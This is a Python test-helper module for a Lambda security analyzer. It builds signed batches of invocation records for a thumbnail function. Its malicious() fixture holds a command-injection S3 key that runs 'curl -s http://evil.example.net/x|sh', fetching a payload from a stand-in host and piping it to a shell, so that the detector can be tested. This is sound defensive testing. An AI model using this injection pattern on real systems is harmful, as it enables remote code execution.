"""Builders of the analyzer tests: keys, realistic records and batches, signing.

Benign invocations model an S3-triggered thumbnail function built on the real S3
event sample in ``shared/events``: it reads the object, writes a temporary file,
runs ImageMagick, stores the thumbnail and a DynamoDB item.
"""

from __future__ import annotations

import json
import time
import uuid
from pathlib import Path
from typing import Any

from palisade_analyzer.settings import Settings
from palisade_analyzer.signing import signed_headers

FUNCTION = "thumbnailer"
SECRET = "s3cr3t-key-of-the-thumbnailer"
OTHER_SECRET = "another-secret-for-orders-fns"
KEYS_DOC = {
    "keys": [
        {"id": "thumb", "secret": SECRET, "functions": [FUNCTION]},
        {"id": "orders", "secret": OTHER_SECRET, "functions": ["orders-*"]},
    ]
}
BASE_TS = 1_760_000_000.0

EVENTS_DIR = next(
    (
        p
        for p in (
            Path(__file__).resolve().parents[3] / "shared" / "events",
            Path("/work/shared/events"),
        )
        if p.is_dir()
    ),
    None,
)
# The shape of shared/events/s3Event.json, for checkouts without shared/.
_S3_EVENT = {
    "Records": [
        {
            "eventSource": "aws:s3",
            "awsRegion": "us-east-2",
            "eventName": "ObjectCreated:Put",
            "s3": {
                "bucket": {"name": "lambda-artifacts-deafc19498e3f2df"},
                "object": {"key": "b21b84d653bb07b05b1e6b33684dc11b", "size": 1305107},
            },
        }
    ]
}


def sample_event(name: str) -> dict[str, Any]:
    """A copy of one real AWS event sample (shared/events)."""
    if EVENTS_DIR is None or not (EVENTS_DIR / name).is_file():
        return json.loads(json.dumps(_S3_EVENT))
    return json.loads((EVENTS_DIR / name).read_text())


def event_digest(event: Any) -> list[str]:
    """Distinct strings (4..200 chars) of an event, at most 64, as the layer makes."""
    found: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)
        elif isinstance(value, str) and 4 <= len(value) <= 200 and value not in found:
            found.append(value)

    walk(event)
    return found[:64]


class Recorder:
    """Builds records and batches the way the layer and the extension do."""

    def __init__(self, function: str = FUNCTION, version: str = "1"):
        self.function = function
        self.version = version
        self.clock = BASE_TS
        self.batches = 0

    def _event(
        self,
        rid: str,
        seq: int,
        kind: str,
        op: str,
        target: str,
        detail: dict[str, Any] | None = None,
        module: str = "app",
        verdict: str = "allowed",
        rule: str = "unlisted",
    ) -> dict[str, Any]:
        self.clock += 0.01
        return {
            "seq": seq,
            "ts": self.clock,
            "kind": kind,
            "op": op,
            "target": target,
            "detail": detail or {},
            "module": module,
            "verdict": verdict,
            "rule": rule,
            "request_id": rid,
        }

    def record(
        self,
        events: list[tuple],
        s3_key: str | None = None,
        request_id: str | None = None,
        cold: bool = False,
        function: str | None = None,
    ) -> dict[str, Any]:
        """One invocation record with the given (kind, op, target, detail, ...)."""
        rid = request_id or str(uuid.uuid4())
        ev = sample_event("s3Event.json")
        if s3_key is not None:
            ev["Records"][0]["s3"]["object"]["key"] = s3_key
        self.clock += 60.0
        started = self.clock
        built = [self._event(rid, i, *spec) for i, spec in enumerate(events)]
        return {
            "schema": "palisade.record/1",
            "function": function or self.function,
            "version": self.version,
            "request_id": rid,
            "cold_start": cold,
            "started_at": started,
            "duration_ms": 120.5,
            "outcome": "success",
            "event_digest": event_digest(ev),
            "events": built,
            "dropped": 0,
        }

    def benign(self, i: int) -> dict[str, Any]:
        """A benign invocation: new S3 key, new temp names, same behaviour."""
        key = f"uploads/{uuid.uuid4()}.png"
        src = f"/tmp/tmp{uuid.uuid4().hex[:8]}.png"
        dst = f"/tmp/tmp{uuid.uuid4().hex[:8]}.png"
        bucket = "lambda-artifacts-deafc19498e3f2df"
        host = f"{bucket}.s3.us-east-2.amazonaws.com"
        events: list[tuple] = [
            (
                "aws",
                "call",
                f"s3:GetObject:{bucket}/{key}",
                {
                    "service": "s3",
                    "operation": "GetObject",
                    "resource": f"{bucket}/{key}",
                    "region": "us-east-2",
                },
                "app",
            ),
            (
                "dns",
                "resolve",
                host,
                {"answers": ["52.219.100.1"], "aws_endpoint": host},
                "botocore",
                "allowed",
                "aws-endpoint",
            ),
            (
                "network",
                "connect",
                f"{host}:443",
                {
                    "ip": "52.219.100.1",
                    "port": 443,
                    "protocol": "tcp",
                    "resolved_from": host,
                    "aws_endpoint": host,
                },
                "botocore",
                "allowed",
                "aws-endpoint",
            ),
            ("file", "write", src, {"mode": "wb"}, "app"),
            (
                "process",
                "spawn",
                "/usr/bin/convert",
                {
                    "argv": [
                        "convert",
                        src,
                        "-resize",
                        f"{100 + i % 7}x{100 + i % 7}",
                        dst,
                    ]
                },
                "app",
            ),
            ("file", "read", dst, {"mode": "rb"}, "app"),
            (
                "aws",
                "call",
                f"s3:PutObject:{bucket}-thumbs/{key}",
                {
                    "service": "s3",
                    "operation": "PutObject",
                    "resource": f"{bucket}-thumbs/{key}",
                },
                "app",
            ),
            (
                "aws",
                "call",
                "dynamodb:PutItem:thumbnails",
                {
                    "service": "dynamodb",
                    "operation": "PutItem",
                    "resource": "thumbnails",
                },
                "app",
            ),
            (
                "network",
                "connect",
                "dynamodb.us-east-2.amazonaws.com:443",
                {
                    "ip": "52.94.0.10",
                    "port": 443,
                    "protocol": "tcp",
                    "resolved_from": "dynamodb.us-east-2.amazonaws.com",
                    "aws_endpoint": "dynamodb.us-east-2.amazonaws.com",
                },
                "botocore",
                "allowed",
                "aws-endpoint",
            ),
            ("file", "delete", src, {}, "app"),
        ]
        if i % 10 == 0:
            events.append(
                ("file", "read", "/var/task/config.json", {"mode": "r"}, "app")
            )
        return self.record(events, s3_key=key)

    def malicious(self) -> dict[str, Any]:
        """Event-data injection: the S3 key reaches a shell that fetches a payload."""
        key = "uploads/cat.png;curl -s http://evil.example.net/x|sh"
        cmd = f"convert '{key}' -resize 100x100 /tmp/out.png"
        events: list[tuple] = [
            (
                "process",
                "spawn",
                "/bin/sh",
                {"argv": ["/bin/sh", "-c", cmd], "shell": True},
                "app",
                "alerted",
                "builtin:shell-spawn",
            ),
            ("dns", "resolve", "evil.example.net", {"answers": ["203.0.113.7"]}, "app"),
            (
                "network",
                "connect",
                "evil.example.net:80",
                {
                    "ip": "203.0.113.7",
                    "port": 80,
                    "protocol": "tcp",
                    "resolved_from": "evil.example.net",
                },
                "app",
            ),
        ]
        return self.record(events, s3_key=key)

    def batch(
        self,
        records: list[dict[str, Any]],
        batch_id: str | None = None,
        function: str | None = None,
    ) -> dict[str, Any]:
        """A batch as the extension ships it."""
        self.batches += 1
        return {
            "schema": "palisade.batch/1",
            "batch_id": batch_id or f"batch-{uuid.uuid4().hex}",
            "sent_at": self.clock,
            "source": {
                "function": function or self.function,
                "version": self.version,
                "region": "us-east-2",
                "extension_version": "0.1.0",
            },
            "records": records,
            "drops": {},
        }


def sign(
    body: bytes,
    key_id: str = "thumb",
    secret: str = SECRET,
    timestamp: int | None = None,
) -> dict[str, str]:
    """Signed headers for a body, at the current time unless given."""
    return signed_headers(
        key_id, secret, body, int(time.time() if timestamp is None else timestamp)
    )


def encode(doc: Any) -> bytes:
    """A batch document as bytes."""
    return json.dumps(doc).encode()


TEST_SETTINGS = Settings(
    learn_min_invocations=20, learn_quiet_seconds=0, relearn_min_invocations=5
)


def send(ing: Any, doc: Any, **sign_args: Any) -> Any:
    """Encode, sign and ingest a batch document."""
    body = encode(doc)
    return ing.ingest(body, sign(body, **sign_args))
